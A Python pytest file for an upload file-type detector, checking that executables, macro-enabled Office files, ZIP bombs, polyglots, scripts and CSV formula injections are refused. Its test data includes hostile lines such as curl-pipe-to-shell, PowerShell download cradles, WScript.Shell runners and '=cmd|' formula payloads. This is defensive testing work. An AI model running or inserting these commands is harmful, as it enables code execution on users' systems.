"""Content-based file type detection on real sample files built here from the standard library:
every accepted type, forged names, macros, ZIP bombs, broken archives and arbitrary bytes."""

from __future__ import annotations

import csv
import io
import re
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import IO, Literal

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from sopbot.storage import office_files
from sopbot.storage.file_types import (
    ALLOWED_TYPES_DESCRIPTION,
    FILE_TYPES,
    MAX_DOWNLOAD_BYTES,
    FileType,
    Refusal,
    detect_file_type,
)
from tests.helpers.office_samples import (
    MAIN_CONTENT_TYPES,
    MAIN_PARTS,
    ROOT_RELS,
    SAMPLES,
    VBA_CONTENT_TYPE,
    OleNode,
    compound_file,
    content_types_xml,
    declare_sizes,
    jpeg_header,
    minimal_pdf,
    office_open_xml,
    opendocument,
    png_chunk,
    tiny_png,
    zip_with_entries,
)

REFUSED = set(Refusal)


@pytest.fixture
def zip_members_opened(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The names of ZIP members detection decompresses, recorded as it opens them."""
    opened: list[str] = []
    real_open = zipfile.ZipFile.open

    def recording_open(
        archive: zipfile.ZipFile, name: str | zipfile.ZipInfo, mode: Literal["r", "w"] = "r"
    ) -> IO[bytes]:
        """ZipFile.open, noting which member is read (writes are the test building files)."""
        if mode == "r":
            opened.append(name.filename if isinstance(name, zipfile.ZipInfo) else name)
        return real_open(archive, name, mode)

    monkeypatch.setattr(zipfile.ZipFile, "open", recording_open)
    return opened


# --- every accepted type ----------------------------------------------------------------------


@pytest.mark.parametrize("extension", sorted(SAMPLES))
def test_each_allowed_type_is_recognised_from_its_content(extension: str) -> None:
    detected = detect_file_type(SAMPLES[extension])
    assert detected == FILE_TYPES[extension]
    assert detected is not None
    assert detected.extension == extension


def test_every_type_has_a_mime_type_and_an_indonesian_label() -> None:
    assert set(FILE_TYPES) == set(SAMPLES)
    for extension, file_type in FILE_TYPES.items():
        assert file_type == FileType(file_type.mime, extension, file_type.label)
        assert "/" in file_type.mime
        assert file_type.label
    assert FILE_TYPES["docx"].label == "Dokumen Word"
    assert FILE_TYPES["xlsx"].label == "Lembar kerja Excel"
    assert FILE_TYPES["csv"] == FileType("text/csv", "csv", "Data CSV")


def test_reply_text_and_download_limit() -> None:
    assert MAX_DOWNLOAD_BYTES == 20 * 1024 * 1024
    for kind in ("PDF", "Word", "Excel", "PowerPoint", "OpenDocument", "PNG", "JPEG", "CSV"):
        assert kind in ALLOWED_TYPES_DESCRIPTION


def test_a_pdf_header_counts_only_at_offset_zero() -> None:
    # A PDF reader accepts the header anywhere in the first KiB: that is how an HTML page
    # with a PDF after its script passed as a PDF.
    assert detect_file_type(b"\x00" * 10 + minimal_pdf()) is Refusal.NOT_ACCEPTED
    assert detect_file_type(b" " + minimal_pdf()) is Refusal.NOT_ACCEPTED


def test_version_4_compound_files_with_4096_byte_sectors() -> None:
    sample = compound_file([("WordDocument", None)], sector_shift=12)
    assert detect_file_type(sample) == FILE_TYPES["doc"]


def test_excel_95_book_stream_is_a_spreadsheet() -> None:
    assert detect_file_type(compound_file([("Book", None)])) == FILE_TYPES["xls"]


# --- the claimed name and MIME type play no part -----------------------------------------------


def test_a_pdf_named_docx_is_a_pdf(tmp_path: Path) -> None:
    upload = tmp_path / "laporan_final.docx"
    upload.write_bytes(minimal_pdf())
    assert detect_file_type(upload.read_bytes()) == FILE_TYPES["pdf"]


ELF_HEADER = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(48)
DOS_STUB = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(54) + b"This program cannot be run in DOS"


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(ELF_HEADER, id="elf"),
        pytest.param(DOS_STUB, id="windows-exe"),
        pytest.param(DOS_STUB + b"%PDF-1.4\n" + minimal_pdf(), id="exe-with-pdf-polyglot"),
        pytest.param(DOS_STUB + bytes(200) + SAMPLES["docx"], id="self-extracting-exe"),
        pytest.param(ELF_HEADER + minimal_pdf(), id="elf-with-pdf-polyglot"),
        pytest.param(b"\xcf\xfa\xed\xfe" + bytes(60), id="mach-o"),
        pytest.param(b"MZ plain looking text\n", id="mz-even-if-text"),
    ],
)
def test_an_executable_named_pdf_is_refused(tmp_path: Path, content: bytes) -> None:
    upload = tmp_path / "surat_keputusan.pdf"
    upload.write_bytes(content)
    assert detect_file_type(upload.read_bytes()) in REFUSED


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", id="gif"),
        pytest.param(b"RIFF\x24\x00\x00\x00WEBPVP8 ", id="webp"),
        pytest.param(b"\x89PNG\r\n\x1a\n" + bytes(20), id="png-without-ihdr"),
        pytest.param(b"\x1f\x8b\x08\x00" + bytes(20), id="gzip"),
        pytest.param(b"Rar!\x1a\x07\x00" + bytes(20), id="rar"),
        pytest.param(b"", id="empty"),
    ],
)
def test_other_formats_are_refused(content: bytes) -> None:
    assert detect_file_type(content) in REFUSED


# --- macros ---------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["docm", "xlsm", "pptm"])
def test_macro_enabled_office_files_are_refused(kind: str) -> None:
    folder = MAIN_PARTS[kind].split("/")[0]
    sample = office_open_xml(
        kind,
        extra_parts={f"{folder}/vbaProject.bin": b"\xd0\xcf\x11\xe0 vba"},
        overrides={f"/{folder}/vbaProject.bin": VBA_CONTENT_TYPE},
    )
    assert detect_file_type(sample) in REFUSED


@pytest.mark.parametrize("kind", ["docm", "xlsm", "pptm"])
def test_a_macro_enabled_content_type_alone_is_refused(kind: str) -> None:
    assert detect_file_type(office_open_xml(kind)) in REFUSED


def test_a_vba_project_under_another_part_name_is_refused() -> None:
    sample = office_open_xml(
        "docx",
        extra_parts={"word/media/image9.bin": b"vba"},
        overrides={"/word/media/image9.bin": VBA_CONTENT_TYPE},
    )
    assert detect_file_type(sample) in REFUSED


def test_a_vba_project_file_in_a_docx_is_refused() -> None:
    sample = office_open_xml("docx", extra_parts={"word/vbaProject.bin": b"vba"})
    assert detect_file_type(sample) in REFUSED


@pytest.mark.parametrize(
    "encode",
    [
        pytest.param(lambda xml: xml.encode("utf-16"), id="utf-16"),
        pytest.param(
            lambda xml: xml.replace("macroEnabled", "macro&#69;nabled").encode(),
            id="character-reference",
        ),
    ],
)
def test_a_disguised_macro_content_type_is_refused(encode: Callable[[str], bytes]) -> None:
    xml = content_types_xml(MAIN_PARTS["docm"], MAIN_CONTENT_TYPES["docm"], {})
    sample = office_open_xml("docm", content_types=encode(xml))
    assert detect_file_type(sample) in REFUSED


@pytest.mark.parametrize(
    "children",
    [
        pytest.param([("WordDocument", None), ("Macros", [("VBA", [("dir", None)])])], id="word"),
        pytest.param(
            [("Workbook", None), ("_VBA_PROJECT_CUR", [("VBA", [("dir", None)])])], id="excel"
        ),
        pytest.param([("PowerPoint Document", None), ("VBA", [("dir", None)])], id="vba-storage"),
        pytest.param(
            [
                ("WordDocument", None),
                ("ObjectPool", [("_1", [("Workbook", None), ("macros", [])])]),
            ],
            id="embedded-object-with-macros",
        ),
    ],
)
def test_legacy_office_files_with_macros_are_refused(children: list[OleNode]) -> None:
    assert detect_file_type(compound_file(children)) in REFUSED


def test_the_word_macros_in_a_documents_text_is_not_a_macro_storage() -> None:
    body = "Lampiran: Macros, VBA dan Workbook dibahas di rapat.".encode("utf-16-le")
    sample = compound_file([("WordDocument", None), ("1Table", None)], stream_data=body)
    assert detect_file_type(sample) == FILE_TYPES["doc"]


def test_an_embedded_spreadsheet_does_not_change_what_the_document_is() -> None:
    sample = compound_file([("WordDocument", None), ("ObjectPool", [("_1", [("Workbook", None)])])])
    assert detect_file_type(sample) == FILE_TYPES["doc"]


@pytest.mark.parametrize(
    "children",
    [
        pytest.param([("EncryptedPackage", None), ("EncryptionInfo", None)], id="encrypted"),
        pytest.param([("__substg1.0_0037001F", None)], id="outlook-msg"),
        pytest.param([], id="empty"),
        pytest.param([("WordDocument", None), ("Workbook", None)], id="ambiguous"),
    ],
)
def test_other_compound_files_are_refused(children: list[OleNode]) -> None:
    assert detect_file_type(compound_file(children)) in REFUSED


def test_a_compound_file_whose_directory_chain_loops_ends() -> None:
    sample = bytearray(compound_file([("WordDocument", None)]))
    struct.pack_into("<I", sample, 512 + 4, 1)  # FAT: the directory sector is followed by itself
    # olefile reads a chain no further than the file has sectors, so the loop ends; what it
    # then finds is judged like any other directory.
    assert detect_file_type(bytes(sample)) in ACCEPTED | REFUSED


@pytest.mark.parametrize("length", [8, 100, 511, 600])
def test_a_truncated_compound_file_is_refused(length: int) -> None:
    assert detect_file_type(SAMPLES["doc"][:length]) in REFUSED


def test_opendocument_with_basic_macros_is_refused() -> None:
    sample = opendocument(
        "application/vnd.oasis.opendocument.text",
        extra_parts={"Basic/Standard/Module1.xml": b"<script:module/>"},
    )
    assert detect_file_type(sample) in REFUSED


def test_opendocument_needs_mimetype_first_and_a_known_value() -> None:
    assert detect_file_type(opendocument("application/vnd.oasis.opendocument.graphics")) in REFUSED
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("content.xml", "<x/>")
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
    assert detect_file_type(buffer.getvalue()) in REFUSED


def test_a_zip_that_is_no_office_document_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("setup.exe", DOS_STUB)
    assert detect_file_type(buffer.getvalue()) in REFUSED


def test_a_package_with_two_main_parts_is_refused() -> None:
    sample = office_open_xml("docx", extra_parts={"xl/workbook.xml": b"<workbook/>"})
    assert detect_file_type(sample) in REFUSED


# --- ZIP bombs and broken archives ------------------------------------------------------------


def test_a_zip_declaring_a_huge_uncompressed_total_is_refused_unopened(
    zip_members_opened: list[str],
) -> None:
    bomb = declare_sizes(office_open_xml("docx"), 150 * 1024 * 1024)  # 3 x 150 MB declared
    assert detect_file_type(bomb) in REFUSED
    assert zip_members_opened == []


def test_a_huge_content_types_part_is_refused_unopened(zip_members_opened: list[str]) -> None:
    inflated = office_open_xml("docx", content_types=b" " * (20 * 1024 * 1024))
    assert len(inflated) < 100 * 1024  # a real bomb: tiny compressed, huge uncompressed
    assert detect_file_type(inflated) in REFUSED
    assert zip_members_opened == []


def test_a_part_that_lies_about_its_size_is_not_decompressed_past_the_lie() -> None:
    xml = content_types_xml(MAIN_PARTS["docx"], MAIN_CONTENT_TYPES["docx"], {}).encode()
    inflated = office_open_xml("docx", content_types=xml + b" " * (50 * 1024 * 1024))
    lying = declare_sizes(inflated, len(xml), only="[Content_Types].xml")
    assert detect_file_type(lying) in REFUSED  # zipfile stops at the declared size, CRC fails


def test_a_zip_with_too_many_entries_is_refused_before_zipfile_parses_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    crowded = zip_with_entries(10_001)
    constructed: list[object] = []
    monkeypatch.setattr(zipfile, "ZipFile", lambda *a: constructed.append(a))
    assert detect_file_type(crowded) in REFUSED
    assert constructed == []


def test_ten_thousand_entries_are_still_allowed() -> None:
    assert detect_file_type(zip_with_entries(10_000)) == FILE_TYPES["docx"]


@pytest.mark.parametrize(
    "cut",
    [
        pytest.param(lambda data: data[: len(data) // 2], id="half"),
        pytest.param(lambda data: data[:-10], id="end-record-cut"),
        pytest.param(lambda data: data[:30], id="local-header-only"),
        pytest.param(lambda data: data[:4], id="signature-only"),
    ],
)
@pytest.mark.parametrize("kind", ["docx", "odt"])
def test_a_truncated_zip_is_refused(cut: Callable[[bytes], bytes], kind: str) -> None:
    assert detect_file_type(cut(SAMPLES[kind])) in REFUSED


def test_a_zip_with_a_corrupted_member_is_refused() -> None:
    sample = bytearray(SAMPLES["docx"])
    start = sample.find(b"[Content_Types].xml") + len("[Content_Types].xml")
    sample[start : start + 40] = bytes(40)  # the deflated [Content_Types].xml is destroyed
    assert detect_file_type(bytes(sample)) in REFUSED


def test_an_encrypted_zip_member_is_refused() -> None:
    sample = bytearray(SAMPLES["docx"])
    end = sample.rfind(b"PK\x05\x06")
    directory_offset = struct.unpack_from("<I", sample, end + 16)[0]
    flags = struct.unpack_from("<H", sample, directory_offset + 8)[0]
    struct.pack_into("<H", sample, directory_offset + 8, flags | 0x1)  # "encrypted" flag
    assert detect_file_type(bytes(sample)) in REFUSED


# --- text and CSV -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "extension"),
    [
        pytest.param(b"a,b,c\n1,2,3\n4,5,6\n", "csv", id="comma"),
        pytest.param(b"nip;nama\r\n1;Siti\r\n2;Budi\r\n", "csv", id="semicolon-crlf"),
        pytest.param(b"\xef\xbb\xbfkode,uraian\n1,Rapat\n", "csv", id="utf8-bom"),
        pytest.param(
            b'nama,alamat\n"Siti","Jl. Merdeka, No. 1"\n"Budi","Jl. Sudirman 5"\n',
            "csv",
            id="quoted-delimiters",
        ),
        pytest.param(
            b"no,uraian,nilai\n1,a,2\n2,b,3\n3,c,4\n4,d,5\nJumlah: 14\n", "csv", id="footer"
        ),
        pytest.param(b"satu, dua, tiga\n", "txt", id="one-line"),
        pytest.param(b"Notulen rapat\n\nHadir: Kepala, Sekretaris\nTidak ada, kecuali\n", "txt"),
        pytest.param("Ringkasan anggaran — Rp 1.000.000\n".encode(), "txt", id="non-ascii"),
        pytest.param(b"tanpa baris baru", "txt", id="no-newline"),
        pytest.param(b"kolom\tkolom\n1\t2\n", "txt", id="tab-separated"),
        pytest.param(b"Halaman 1\x0cHalaman 2\n", "txt", id="form-feed"),
    ],
)
def test_text_and_csv(content: bytes, extension: str) -> None:
    assert detect_file_type(content) == FILE_TYPES[extension]


@pytest.mark.parametrize(
    "content",
    [
        pytest.param("Laporan bulan Mei\n".encode("cp1252") + b"Caf\xe9\n", id="not-utf8"),
        pytest.param(b"a,b\n1,2\x00\n", id="nul-byte"),
        pytest.param(b"abc\x01\x02\x03\x04\x05def\x06\x07\x08", id="control-characters"),
        pytest.param(b"\xef\xbb\xbf", id="bom-only"),
        pytest.param("teks".encode("utf-16"), id="utf-16"),
    ],
)
def test_binary_or_badly_encoded_text_is_refused(content: bytes) -> None:
    assert detect_file_type(content) in REFUSED


# --- arbitrary input never raises ---------------------------------------------------------------

ACCEPTED = set(FILE_TYPES.values())
MAGICS = [
    b"PK\x03\x04",
    bytes.fromhex("d0cf11e0a1b11ae1"),
    b"%PDF-",
    b"\x89PNG\r\n\x1a\n",
    b"\xff\xd8\xff",
    b"\xef\xbb\xbf",
]


@given(st.binary(max_size=4096))
def test_arbitrary_bytes_never_raise(content: bytes) -> None:
    assert detect_file_type(content) in ACCEPTED | REFUSED


@given(magic=st.sampled_from(MAGICS), rest=st.binary(max_size=2048))
def test_arbitrary_bytes_after_a_known_signature_never_raise(magic: bytes, rest: bytes) -> None:
    assert detect_file_type(magic + rest) in ACCEPTED | REFUSED


@given(
    extension=st.sampled_from(sorted(SAMPLES)),
    changes=st.lists(
        st.tuples(st.integers(min_value=0), st.integers(min_value=0, max_value=255)),
        min_size=1,
        max_size=8,
    ),
    keep=st.integers(min_value=1, max_value=1 << 16),
)
def test_damaged_real_files_never_raise(
    extension: str, changes: list[tuple[int, int]], keep: int
) -> None:
    damaged = bytearray(SAMPLES[extension][:keep])
    for position, value in changes:
        damaged[position % len(damaged)] = value
    assert detect_file_type(bytes(damaged)) in ACCEPTED | REFUSED


@given(st.text(alphabet=st.characters(categories=["L", "N", "P", "Zs"]), max_size=500))
def test_ordinary_text_is_accepted_as_text_or_csv(text: str) -> None:
    detected = detect_file_type(f"Catatan: {text}\n".encode())
    assert detected in {FILE_TYPES["txt"], FILE_TYPES["csv"]}


# --- polyglots and active content (issue 16, item 3; issue 15, item 6) -------------------------


def test_a_batch_file_behind_a_reversed_name_is_refused() -> None:
    # Sent as "laporan\u202efdp.bat", which shows as "laporantab.pdf"; only the bytes count.
    assert detect_file_type(b"@echo off\r\nstart calc.exe") is Refusal.ACTIVE_CONTENT


def test_an_html_page_with_a_pdf_behind_its_script_is_refused() -> None:
    polyglot = b"<html><script>location='http://x.invalid/'</script>%PDF-1.4\n%%EOF\n"
    assert detect_file_type(polyglot) is Refusal.ACTIVE_CONTENT
    # With a real (binary) PDF behind it, it is not even text.
    html_page = b"<html><script>location='http://x.invalid/'</script>"
    assert detect_file_type(html_page + minimal_pdf()) is Refusal.NOT_ACCEPTED


def test_an_html_page_named_pdf_is_not_text() -> None:
    page = b"<!DOCTYPE html>\n<p>Laporan</p>\n<img src=x onerror=alert(1)>\n"
    assert detect_file_type(page) is Refusal.ACTIVE_CONTENT


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', id="svg"),
        pytest.param(b'<?xml version="1.0"?>\n<svg><script>x()</script></svg>', id="svg-xml"),
        pytest.param(b'<HTA:APPLICATION ID="x">\n<script language="VBScript">', id="hta"),
        pytest.param(b"<body>\n<iframe src=//x.invalid>", id="iframe"),
        pytest.param(b"#!/bin/sh\ncurl http://x.invalid/a | sh\n", id="shell"),
        pytest.param(b"cd /tmp\nwget http://x.invalid/a\nchmod +x a\n./a\n", id="shell-lines"),
        pytest.param(b"@ECHO OFF\r\ndel /q %TEMP%\\*\r\n", id="batch"),
        pytest.param(b"powershell -nop -w hidden -enc SQBFAFgA\r\n", id="powershell-line"),
        pytest.param(b"IEX (New-Object Net.WebClient).DownloadString('http://x')", id="ps"),
        pytest.param(b'var s = new ActiveXObject("WScript.Shell");\ns.Run("calc");', id="jscript"),
        pytest.param(b'Set s = CreateObject("WScript.Shell")\ns.Run "calc"\n', id="vbscript"),
        pytest.param(b"function go(a) { eval(atob(a)); }\n", id="javascript"),
        pytest.param(b"[InternetShortcut]\r\nURL=file://x.invalid/share/a.exe\r\n", id="url"),
        pytest.param(b"Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER]\r\n", id="reg"),
        pytest.param(b'<a href="javascript:alert(1)">Laporan</a>', id="javascript-link"),
    ],
)
def test_markup_and_scripts_are_refused_as_text(content: bytes) -> None:
    assert detect_file_type(content) is Refusal.ACTIVE_CONTENT


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b"Start rapat pukul 09.00 WIB.\nCall center 112 siaga.\n", id="start-call"),
        pytest.param(b"Sub Bagian Umum (SBU) menyiapkan konsumsi.\n", id="sub-bagian"),
        pytest.param(b"Syarat: nilai < p dan 50% dari target, 30% sisanya.\n", id="less-than"),
        pytest.param(b"Kirim ke budi@kominfo.go.id; tembusan: sekretariat.\n", id="email"),
        pytest.param(b"Evaluasi (triwulan) dan fungsi {koordinasi} berjalan.\n", id="braces"),
        pytest.param("Catatan: “penting” — SH, MH\n".encode(), id="degrees"),
    ],
)
def test_office_prose_that_mentions_such_words_is_still_text(content: bytes) -> None:
    assert detect_file_type(content) == FILE_TYPES["txt"]


def test_rich_text_is_not_plain_text() -> None:
    assert detect_file_type(b"{\\rtf1\\ansi{\\object\\objemb}}") is Refusal.NOT_ACCEPTED


# --- CSV cells a spreadsheet would run (refused; see sopbot.storage.text_files) -----------------


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x.invalid","klik")',
        "+SUM(1,cmd|'/C calc'!A0)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1+1",
        " =1+1",
        '"=1+1"',
        "- Rapat koordinasi",
    ],
)
def test_csv_cells_that_run_as_formulas_are_refused(cell: str) -> None:
    content = f"no;uraian;nilai\n1;Rapat;10\n2;{cell};20\n3;Laporan;30\n".encode()
    assert detect_file_type(content) is Refusal.FORMULA


def test_a_formula_far_below_the_sampled_lines_is_found() -> None:
    rows = "".join(f"{n};kegiatan {n};{n * 10}\n" for n in range(5000))
    content = f"no;uraian;nilai\n{rows}5001;=cmd|' /C calc'!A0;0\n".encode()
    assert detect_file_type(content) is Refusal.FORMULA


def test_signed_numbers_and_dashes_are_not_formulas() -> None:
    content = (
        b"nama;selisih;telepon;catatan\n"
        b"Siti;-12,5;+62 812-3456-7890;-\n"
        b"Budi;+3.000.000;(0541) 123;--\n"
        b"Dewi;-5%;+62812345678;sesuai\n"
    )
    assert detect_file_type(content) == FILE_TYPES["csv"]


# --- strict image and PDF headers -------------------------------------------------------------


def png_with_header(width: int, height: int, depth: int, colour: int) -> bytes:
    """A PNG whose IHDR says these things (with a correct CRC)."""
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IEND", b"")


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(png_with_header(0, 1, 8, 0), id="zero-width"),
        pytest.param(png_with_header(1, 1, 3, 2), id="impossible-depth"),
        pytest.param(png_with_header(1, 1, 8, 5), id="unknown-colour-type"),
        pytest.param(tiny_png()[:29] + b"\x00\x00\x00\x00" + tiny_png()[33:], id="bad-crc"),
        pytest.param(b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0cIHDR" + bytes(20), id="short-ihdr"),
        pytest.param(b"\xff\xd8" + b"<html><script>x()</script>", id="jpeg-soi-then-html"),
        pytest.param(b"\xff\xd8\xff\x00\x00\x10" + bytes(16), id="jpeg-no-marker"),
        pytest.param(b"\xff\xd8\xff\xe0\xff\xff" + bytes(16), id="jpeg-segment-past-end"),
        pytest.param(b"%PDF-\n<script>x()</script>", id="pdf-without-version"),
    ],
)
def test_damaged_or_forged_image_and_pdf_headers_are_refused(content: bytes) -> None:
    assert detect_file_type(content) in REFUSED


def test_exif_and_jfif_jpegs_are_images() -> None:
    exif = b"\xff\xd8\xff\xe1\x00\x10Exif\x00\x00" + bytes(10) + b"\xff\xd9"
    assert detect_file_type(exif) == FILE_TYPES["jpg"]
    assert detect_file_type(jpeg_header()) == FILE_TYPES["jpg"]


# --- archives inside packages ---------------------------------------------------------------


def zip_of(members: dict[str, bytes]) -> bytes:
    """A plain deflated ZIP archive of these members."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_embedding(name: str, data: bytes) -> bytes:
    """A docx carrying ``data`` as an embedded object, as Word stores an inserted file."""
    return office_open_xml("docx", extra_parts={f"word/embeddings/{name}": data})


def test_a_report_with_an_embedded_workbook_is_accepted() -> None:
    report = docx_embedding("Microsoft_Excel_Worksheet.xlsx", SAMPLES["xlsx"])
    assert detect_file_type(report) == FILE_TYPES["docx"]


def test_a_zip_declaring_four_gigabytes_inside_a_docx_is_refused() -> None:
    bomb = declare_sizes(zip_of({"data.bin": b"\x00" * 1024}), 0xFFFFFFFE)
    assert detect_file_type(docx_embedding("lampiran.zip", bomb)) is Refusal.ARCHIVE


def test_a_highly_compressed_zip_inside_a_docx_is_refused() -> None:
    bomb = zip_of({"data.bin": b"\x00" * (50 * 1024 * 1024)})
    assert len(bomb) < 100 * 1024
    assert detect_file_type(docx_embedding("lampiran.zip", bomb)) is Refusal.ARCHIVE


def test_a_highly_compressed_part_of_the_document_itself_is_refused() -> None:
    inflated = office_open_xml("docx", extra_parts={"word/header1.xml": b" " * (30 * 1024 * 1024)})
    assert detect_file_type(inflated) is Refusal.ARCHIVE


def test_packages_nested_too_deep_are_refused() -> None:
    level_two = docx_embedding("b.docx", SAMPLES["docx"])
    assert detect_file_type(docx_embedding("a.docx", level_two)) == FILE_TYPES["docx"]
    level_three = docx_embedding("a.docx", level_two)
    assert detect_file_type(docx_embedding("top.docx", level_three)) is Refusal.ARCHIVE


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(zip_of({"catatan.txt": b"isi"}), id="plain-zip"),
        pytest.param(b"\x1f\x8b\x08\x00" + bytes(40), id="gzip"),
        pytest.param(b"Rar!\x1a\x07\x01\x00" + bytes(40), id="rar"),
        pytest.param(b"7z\xbc\xaf\x27\x1c" + bytes(40), id="7z"),
        pytest.param(bytes(257) + b"ustar\x0000" + bytes(250), id="tar"),
    ],
)
def test_other_archives_inside_a_docx_are_refused(data: bytes) -> None:
    assert detect_file_type(docx_embedding("lampiran.bin", data)) is Refusal.ARCHIVE


def test_an_embedded_macro_workbook_is_refused() -> None:
    folder = "xl"
    macro_book = office_open_xml(
        "xlsm",
        extra_parts={f"{folder}/vbaProject.bin": b"\xd0\xcf\x11\xe0 vba"},
        overrides={f"/{folder}/vbaProject.bin": VBA_CONTENT_TYPE},
    )
    assert detect_file_type(docx_embedding("Book1.xlsm", macro_book)) is Refusal.MACROS


# --- olefile and oletools -------------------------------------------------------------------

VBA_PROJECT: list[OleNode] = [("PROJECT", None), ("VBA", [("_VBA_PROJECT", None), ("dir", None)])]


def test_a_vba_project_in_an_embedded_object_is_found_by_oletools() -> None:
    # Neither the part's name nor [Content_Types].xml says "vba": only oletools, which looks
    # inside every compound file in the package, sees the project.
    report = docx_embedding("oleObject1.bin", compound_file(VBA_PROJECT))
    assert detect_file_type(report) is Refusal.MACROS


def test_a_password_protected_office_file_is_refused_as_encrypted() -> None:
    protected = compound_file([("EncryptionInfo", None), ("EncryptedPackage", None)])
    assert detect_file_type(protected) is Refusal.ENCRYPTED


def test_refusals_say_why() -> None:
    assert detect_file_type(SAMPLES["docx"].replace(b"word/", b"wxyz/")) in REFUSED
    assert detect_file_type(office_open_xml("docm")) is Refusal.MACROS
    assert detect_file_type(ELF_HEADER) is Refusal.NOT_ACCEPTED


def runs_as_formula(cell: str) -> bool:
    """The rule, as a spreadsheet applies it: after padding, "=" or "@", or a sign that is
    followed by more than digits, spaces and arithmetic."""
    value = cell.lstrip(" \t\r\n\x0b\x0c")
    if value[:1] in ("=", "@"):
        return True
    return value[:1] in ("+", "-") and re.fullmatch(r"[+-][\d\s.,()+\-/%]*", value) is None


CELLS = st.text(alphabet='=+-@ \t"ab1,.()%', max_size=8)


@given(st.lists(st.tuples(CELLS, CELLS, CELLS), min_size=2, max_size=6))
def test_every_formula_cell_is_found_and_no_other(rows: list[tuple[str, str, str]]) -> None:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";", lineterminator="\n").writerows([("a", "b", "c"), *rows])
    text = buffer.getvalue()
    detected = detect_file_type(text.encode())
    assume(detected in (FILE_TYPES["csv"], Refusal.FORMULA))
    # As a spreadsheet splits it at ";" (Indonesian Excel) or at "," (many others).
    expected = any(
        runs_as_formula(cell)
        for delimiter in (";", ",")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    )
    assert (detected is Refusal.FORMULA) == expected


def test_a_huge_relationships_part_is_refused_before_oletools_parses_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Stored uncompressed, so no compression ratio gives it away: only its size does.
    declared = content_types_xml(MAIN_PARTS["docx"], MAIN_CONTENT_TYPES["docx"], {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", declared)
        rels = ROOT_RELS.format(target=MAIN_PARTS["docx"]).encode()
        archive.writestr("_rels/.rels", rels + b" " * (2 * 1024 * 1024))
        archive.writestr(MAIN_PARTS["docx"], '<?xml version="1.0"?><root/>')
    parsed: list[bytes] = []
    monkeypatch.setattr(office_files, "VBA_Parser", lambda *a, **k: parsed.append(b""))
    assert detect_file_type(buffer.getvalue()) is Refusal.NOT_ACCEPTED
    assert parsed == []


def test_a_cmdlet_named_in_prose_is_text_and_one_with_its_target_is_refused() -> None:
    # A property test once drew "START-PROCESS" into a note: the name alone is prose.
    assert detect_file_type(b"Catatan: START-PROCESS\n") == FILE_TYPES["txt"]
    assert detect_file_type(b"Start-Process calc.exe\n") is Refusal.ACTIVE_CONTENT
    assert detect_file_type(b"$c = New-Object Net.WebClient\n") is Refusal.ACTIVE_CONTENT
